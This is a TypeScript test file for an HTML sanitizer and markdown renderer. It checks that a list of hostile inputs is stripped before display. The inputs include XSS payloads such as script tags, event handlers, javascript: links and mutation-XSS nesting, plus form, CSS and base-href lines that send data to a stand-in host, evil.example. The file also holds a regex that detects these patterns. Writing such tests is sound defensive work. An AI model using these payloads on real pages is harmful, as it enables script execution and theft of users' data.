import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { html, raw } from './html.ts'
import { plainText, renderCaption, renderInline, renderMarkdown } from './markdown.ts'
import { sanitize, sanitizeMirror } from './sanitize.ts'

/** Each tries to run something, or to send something somewhere. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name=password></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<style>@import "https://evil.example"</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<link rel=stylesheet href="https://evil.example"><meta http-equiv=refresh content="0;url=x">',
  '<base href="https://evil.example/">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<details open ontoggle=alert(1)>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<div data-m="m0" id="al-form" id=f0 data-mirror=block>x</div>',
  '[x](javascript:alert(1))',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x]: javascript:alert(1)\n[x]',
]
const FORBIDDEN =
  /<(script|style|iframe|object|embed|link|meta|base|svg|math|form|input|textarea|button)\b|\son\w+=|(?:href|src)="\s*(?:javascript|vbscript|data:(?!image\/(png|jpeg|gif|webp)))|\sstyle=|data-m=|data-mirror=|id="(?:al-|f\d)/i

describe('what authors write and users answer', () => {
  for (const hostile of HOSTILE) {
    it(`[QUE6] runs and sends nothing: ${hostile.slice(0, 50)}`, () => {
      for (const shown of [
        sanitize(hostile),
        renderMarkdown(hostile).html,
        renderInline(hostile).html,
        renderCaption(`**${hostile}**`).html,
      ]) {
        assert.doesNotMatch(shown, FORBIDDEN)
      }
    })
  }

  it('[QUE6] keeps harmless markup', () => {
    const shown = renderMarkdown(
      '**bold** [a](/x) [b](https://b.example)\n\n| t |\n|---|\n| 1 |',
    ).html
    assert.match(shown, /<strong>bold<\/strong>/)
    assert.match(shown, /<a href="\/x">a<\/a>/)
    assert.match(
      shown,
      /href="https:\/\/b\.example"[^>]*target="_blank"[^>]*rel="noopener noreferrer"/,
    )
    assert.match(shown, /<table class="table/)
  })

  it('[QUE6] breaks lines at [BR]', () => {
    assert.match(renderInline('a[BR]b').html, /a<br \/>b/)
  })

  it('[QUE6] has no link within a caption, and no markup in plain text', () => {
    assert.equal(renderCaption('a [b](/c)').html, 'a b')
    assert.equal(plainText('**a** & <b>b</b>'), 'a & b')
  })

  it('[QUE6] escapes every string of a template', () => {
    const name = `<b>"O'Neil"</b>`
    assert.equal(
      html`<p title="${name}">${name}${raw('<i>')}${[1, null, false]}</p>`.html,
      '<p title="&lt;b&gt;&quot;O&#39;Neil&quot;&lt;/b&gt;">&lt;b&gt;&quot;O&#39;Neil&quot;&lt;/b&gt;<i>1</p>',
    )
  })
})

describe('a part of a page on its way to an observer', () => {
  it('[OBS8] keeps controls and their names', () => {
    const shown = sanitizeMirror(
      '<label for="f0" data-m="m1">Name</label><input id="f0" data-m="f0" value="a" checked>',
    )
    assert.match(shown, /<label for="f0" data-m="m1">Name<\/label>/)
    assert.match(shown, /<input id="f0" data-m="f0" value="a" checked/)
  })

  for (const hostile of [
    '<script>alert(1)</script>',
    '<img src="https://evil.example/x.png">',
    '<a href="https://evil.example">x</a>',
    '<form action="https://evil.example"><button formaction="https://evil.example">x</button></form>',
    '<input onfocus=alert(1) autofocus type=image src="https://evil.example/x.png">',
    '<p style="background:url(https://evil.example)">x</p>',
    '<input type=hidden name=version value=7>',
  ]) {
    it(`[OBS8] lets nothing run or leave: ${hostile.slice(0, 50)}`, () => {
      assert.doesNotMatch(
        sanitizeMirror(hostile),
        /<script|evil\.example|\son\w+=|style=|type="hidden"/i,
      )
    })
  }
})
